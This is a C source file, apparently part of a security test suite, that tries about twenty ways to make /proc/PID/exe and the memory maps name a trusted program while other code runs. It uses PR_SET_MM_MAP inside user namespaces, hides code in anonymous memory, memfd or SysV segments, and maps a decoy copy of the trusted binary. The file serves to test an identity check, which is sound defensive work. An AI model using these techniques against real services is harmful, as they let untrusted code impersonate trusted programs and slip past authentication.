// The link /proc/PID/exe and the mappings show the trusted program, while other code runs (A4).
#include "attacker.h"

#include <elf.h>
#include <sys/ipc.h>
#include <sys/shm.h>

struct segment {
    uintptr_t start, end;
    int protection;
};

// Where our own code goes when its file has to be unmapped.
enum hiding {
    IN_ANONYMOUS,      // memory of nobody's
    IN_OWN_FILE,       // a private mapping of a file of the attacker's
    IN_SHARED_FILE,    // a shared one
    IN_MEMFD,          // a file without a name
    IN_SYSV_SHM,       // a System V segment
    IN_TRUSTED_FILE,   // copied over the text of a private mapping of the trusted file
};

static struct segment segments[32];
static int segment_count;

static void find_segments(void) {
    char exe[256], line[600];
    ssize_t count = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (count <= 0) broken("readlink");
    exe[count] = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char permissions[8];
        if (!strstr(line, exe) || sscanf(line, "%lx-%lx %7s", &start, &end, permissions) != 3) continue;
        int protection = (permissions[0] == 'r') * PROT_READ | (permissions[1] == 'w') * PROT_WRITE |
                         (permissions[2] == 'x') * PROT_EXEC;
        if (segment_count < 32) segments[segment_count++] = (struct segment){start, end, protection};
    }
    if (maps) fclose(maps);
    if (!segment_count) broken("own mappings not found");
}

static int hiding_file(enum hiding where, size_t room) {
    int fd = where == IN_MEMFD ? (int)syscall(SYS_memfd_create, "library.so", 0)
                               : open(in_work("library.so"), O_RDWR | O_CREAT | O_TRUNC, 0755);
    if (fd < 0 || ftruncate(fd, (off_t)room) != 0) unsupported("a file to hide in");
    return fd;
}

// Replaces each mapping of our own file by one that holds the same bytes and is of another kind. The call that
// replaces the text returns into the new text.
static void leave_own_file(enum hiding where) {
    int fd = -1;
    off_t at = 0;
    if (where == IN_OWN_FILE || where == IN_SHARED_FILE || where == IN_MEMFD) fd = hiding_file(where, 1 << 24);
    for (int i = 0; i < segment_count; i++) {
        struct segment s = segments[i];
        size_t length = s.end - s.start;
        void *home = (void *)s.start;
        bool code = s.protection & PROT_EXEC;
        if (code && fd >= 0) {
            if (pwrite(fd, home, length, at) != (ssize_t)length) broken("write a copy");
            int kind = where == IN_OWN_FILE ? MAP_PRIVATE : MAP_SHARED;
            if (mmap(home, length, s.protection, kind | MAP_FIXED, fd, at) != home) broken("map a copy");
            at += (off_t)length;
            continue;
        }
        if (code && where == IN_SYSV_SHM) {
            int id = shmget(IPC_PRIVATE, length, IPC_CREAT | 0700);
            void *room = id < 0 ? (void *)-1 : shmat(id, NULL, 0);
            if (room == (void *)-1) unsupported("System V shared memory");
            memcpy(room, home, length);
            void *got = shmat(id, home, SHM_EXEC | SHM_REMAP | SHM_RDONLY);
            shmctl(id, IPC_RMID, NULL);
            if (got != home) broken("attach a copy");
            continue;
        }
        void *copy;
        if (code && where == IN_TRUSTED_FILE) {
            int trusted = open(trusted_path, O_RDONLY | O_CLOEXEC);
            copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE, trusted, 0x1000);
            close(trusted);
        } else {
            copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        }
        if (copy == MAP_FAILED) broken("map a copy");
        memcpy(copy, home, length);
        if (mprotect(copy, length, s.protection) != 0) broken("protect a copy");
        if (mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, home) != home) broken("move a copy");
    }
}

// The trusted program's text, mapped where its entry point says it is, and never run.
static Elf64_Ehdr header;
static void map_decoy(void) {
    int fd = open(trusted_path, O_RDONLY | O_CLOEXEC);
    Elf64_Phdr p[16];
    if (fd < 0 || pread(fd, &header, sizeof header, 0) != sizeof header || header.e_phnum > 16 ||
        pread(fd, p, sizeof *p * header.e_phnum, (off_t)header.e_phoff) < 0)
        broken("read the trusted program");
    // Our own program is linked elsewhere, so these addresses are free.
    for (int i = 0; i < header.e_phnum; i++) {
        if (p[i].p_type != PT_LOAD || p[i].p_flags & PF_W) continue;
        uintptr_t start = p[i].p_vaddr & ~0xffful;
        size_t length = p[i].p_filesz + (p[i].p_vaddr - start);
        int protection = PROT_READ | (p[i].p_flags & PF_X ? PROT_EXEC : 0);
        off_t offset = (off_t)(p[i].p_offset & ~0xffful);
        if (mmap((void *)start, length, protection, MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, offset) == MAP_FAILED)
            broken("map the trusted program at its own place");
    }
    close(fd);
}

static int swap_link_of_this_memory(void *decoy) {
    static char record[4096];
    static unsigned long auxiliary[64];
    struct prctl_mm_map map = {0};
    int fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
    ssize_t count = read(fd, record, sizeof record - 1);
    close(fd);
    if (count <= 0) return errno ? errno : EIO;
    // Fields 26 to 28 and 45 to 51 of proc_pid_stat(5), counted from the state, which is field 3.
    unsigned long long field[53] = {0};
    char *rest = strrchr(record, ')') + 2;
    for (int i = 3; i <= 52 && rest; i++) {
        field[i] = strtoull(rest, NULL, 10);
        rest = strchr(rest, ' ');
        rest = rest ? rest + 1 : NULL;
    }
    map.start_code = field[26];
    map.end_code = field[27];
    map.start_stack = field[28];
    map.start_data = field[45];
    map.end_data = field[46];
    map.start_brk = field[47];
    map.brk = (unsigned long)sbrk(0);
    map.arg_start = field[48];
    map.arg_end = field[49];
    map.env_start = field[50];
    map.env_end = field[51];
    if (decoy) {
        fd = open("/proc/self/auxv", O_RDONLY | O_CLOEXEC);
        ssize_t size = read(fd, auxiliary, sizeof auxiliary);
        close(fd);
        for (int i = 0; i + 1 < 64; i += 2) {
            if (auxiliary[i] == AT_ENTRY) auxiliary[i + 1] = header.e_entry;
            if (auxiliary[i] == AT_PHDR) auxiliary[i + 1] = (header.e_entry & ~0xfffful) + header.e_phoff;
            if (auxiliary[i] == AT_NULL) break;
        }
        map.auxv = (void *)auxiliary;
        map.auxv_size = size > 0 ? (unsigned)size : 0;
    }
    map.exe_fd = (unsigned)open(trusted_path, O_RDONLY | O_CLOEXEC);
    int error = syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) == 0 ? 0 : errno;
    close((int)map.exe_fd);
    return error;
}

static bool is_decoyed;
static volatile int swap_error;

static int helper(void *unused) {
    (void)unused;
    swap_error = swap_link_of_this_memory(is_decoyed ? &is_decoyed : NULL);
    syscall(SYS_exit, 0); // not exit(): the memory is its parent's
    return 0;
}

static char helper_stack[1 << 16] __attribute__((aligned(16)));

// A child in a user namespace of its own, sharing our memory: we stay in the initial one.
static void swap_through_helper(void) {
    swap_error = -1;
    pid_t child = clone(helper, helper_stack + sizeof helper_stack, CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);
    if (child < 0) unsupported("user namespaces for ordinary users");
    waitpid(child, NULL, 0);
    if (swap_error) errno = swap_error, unsupported("PR_SET_MM_MAP in an own user namespace");
}

static void swap_in_own_namespace(void) {
    enter_user_namespace(0, getuid());
    int error = swap_link_of_this_memory(is_decoyed ? &is_decoyed : NULL);
    if (error) errno = error, unsupported("PR_SET_MM_MAP in an own user namespace");
}

static bool forks_last;

static int ask_as_trusted(void) {
    char exe[256];
    if (forks_last) {
        // A process that has executed nothing itself, with everything its parent has made.
        pid_t child = fork();
        if (child < 0) broken("fork");
        if (child > 0) {
            waitpid(child, NULL, 0);
            return 0;
        }
    }
    ssize_t count = readlink("/proc/self/exe", exe, sizeof exe - 1);
    exe[count > 0 ? count : 0] = 0;
    if (strcmp(exe, trusted_path)) broken("the link did not change");
    return fetch(socket_path, "the link names the trusted program");
}

static int forge(enum hiding where, bool own_namespace) {
    if (!attacking) return fetch(socket_path, "unforged");
    find_segments();
    leave_own_file(where);
    if (own_namespace) {
        swap_in_own_namespace();
    } else {
        swap_through_helper();
    }
    return ask_as_trusted();
}

static int in_own_namespace(void) { return forge(IN_ANONYMOUS, true); }
static int by_helper(void) { return forge(IN_ANONYMOUS, false); }
static int code_in_own_file(void) { return forge(IN_OWN_FILE, false); }
static int code_in_shared_file(void) { return forge(IN_SHARED_FILE, false); }
static int code_in_memfd(void) { return forge(IN_MEMFD, false); }
static int code_in_sysv_segment(void) { return forge(IN_SYSV_SHM, false); }
static int code_in_trusted_file(void) { return forge(IN_TRUSTED_FILE, false); }

static int with_decoy(enum hiding where, bool own_namespace) {
    if (!attacking) return fetch(socket_path, "unforged");
#ifndef __LP64__
    unsupported("written for 64-bit programs");
#endif
    is_decoyed = true;
    map_decoy();
    return forge(where, own_namespace);
}

static int decoy_and_anonymous(void) { return with_decoy(IN_ANONYMOUS, false); }
static int decoy_and_own_file(void) { return with_decoy(IN_OWN_FILE, false); }
static int decoy_and_trusted_file(void) { return with_decoy(IN_TRUSTED_FILE, false); }
static int decoy_in_own_namespace(void) { return with_decoy(IN_OWN_FILE, true); }

// The forger has a child, and that one asks.
static int decoy_then_fork(void) {
    forks_last = true;
    return with_decoy(IN_OWN_FILE, false);
}

// It is the child that forges, having executed nothing.
static int fork_then_decoy(void) {
    if (!attacking) return fetch(socket_path, "unforged");
    pid_t child = fork();
    if (child < 0) broken("fork");
    if (child == 0) return with_decoy(IN_OWN_FILE, false);
    waitpid(child, NULL, 0);
    return 0;
}

// The swap comes between connecting and asking, and is taken back afterwards by nobody.
static int after_connecting(void) {
    if (!attacking) return fetch(socket_path, "unforged");
    int fd = dial(socket_path);
    nap(0.2);
    find_segments();
    leave_own_file(IN_ANONYMOUS);
    swap_through_helper();
    return speak(fd, "swapped after connecting");
}

// Without CAP_SYS_RESOURCE in the initial namespace.
static int without_namespace(void) {
    if (!attacking) return fetch(socket_path, "unforged");
    find_segments();
    leave_own_file(IN_ANONYMOUS);
    int fd = open(trusted_path, O_RDONLY | O_CLOEXEC);
    if (prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0) != 0) kernel_refuses("PR_SET_MM_EXE_FILE");
    return ask_as_trusted();
}

// PR_SET_MM_EXE_FILE, with every capability that an own namespace gives.
static int exe_file_in_own_namespace(void) {
    if (!attacking) return fetch(socket_path, "unforged");
    find_segments();
    leave_own_file(IN_ANONYMOUS);
    enter_user_namespace(0, 0);
    int fd = open(trusted_path, O_RDONLY | O_CLOEXEC);
    if (prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0) != 0) kernel_refuses("PR_SET_MM_EXE_FILE");
    return ask_as_trusted();
}

// The file stays mapped, without the right to execute it, so the link cannot be changed.
static int file_still_mapped(void) {
    if (!attacking) return fetch(socket_path, "unforged");
    swap_error = -1;
    if (clone(helper, helper_stack + sizeof helper_stack, CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL) < 0)
        unsupported("user namespaces for ordinary users");
    wait(NULL);
    errno = swap_error;
    if (swap_error) kernel_refuses("PR_SET_MM_MAP while the old file is mapped");
    return ask_as_trusted();
}

// --- Without a swap: memory that holds code and is no file ----------------------------------------

// The control is an ordinary fetch; the program is the attacker's own, so at AL2 and above its own identity is refused.
static int executable_anonymous_memory(void) {
    if (attacking && mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) ==
                         MAP_FAILED)
        unsupported("executable memory");
    return fetch(socket_path, "anonymous executable memory");
}

static int executable_stack(void) {
    char here;
    if (attacking && mprotect((void *)((uintptr_t)&here & ~0xffful), 4096, PROT_READ | PROT_WRITE | PROT_EXEC) != 0)
        unsupported("executable stack");
    return fetch(socket_path, "executable stack");
}

static int patched_text(void) {
    if (attacking) {
        void *page = (void *)((uintptr_t)&executable_stack & ~0xffful);
        if (mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) unsupported("writable text");
        *(volatile char *)page = *(volatile char *)page;
        if (mprotect(page, 4096, PROT_READ | PROT_EXEC) != 0) unsupported("executable text");
    }
    return fetch(socket_path, "own text written");
}

const struct attack link_attacks[] = {
    {"link-own-namespace", in_own_namespace},
    {"link-helper", by_helper},
    {"link-code-in-own-file", code_in_own_file},
    {"link-code-in-shared-file", code_in_shared_file},
    {"link-code-in-memfd", code_in_memfd},
    {"link-code-in-sysv-segment", code_in_sysv_segment},
    {"link-code-in-trusted-file", code_in_trusted_file},
    {"link-decoy-and-anonymous", decoy_and_anonymous},
    {"link-decoy-and-own-file", decoy_and_own_file},
    {"link-decoy-and-trusted-file", decoy_and_trusted_file},
    {"link-decoy-own-namespace", decoy_in_own_namespace},
    {"link-decoy-then-fork", decoy_then_fork},
    {"link-fork-then-decoy", fork_then_decoy},
    {"link-after-connecting", after_connecting},
    {"link-without-namespace", without_namespace},
    {"link-exe-file-own-namespace", exe_file_in_own_namespace},
    {"link-file-still-mapped", file_still_mapped},
    {"anonymous-executable-memory", executable_anonymous_memory},
    {"executable-stack", executable_stack},
    {"patched-text", patched_text},
    {0},
};
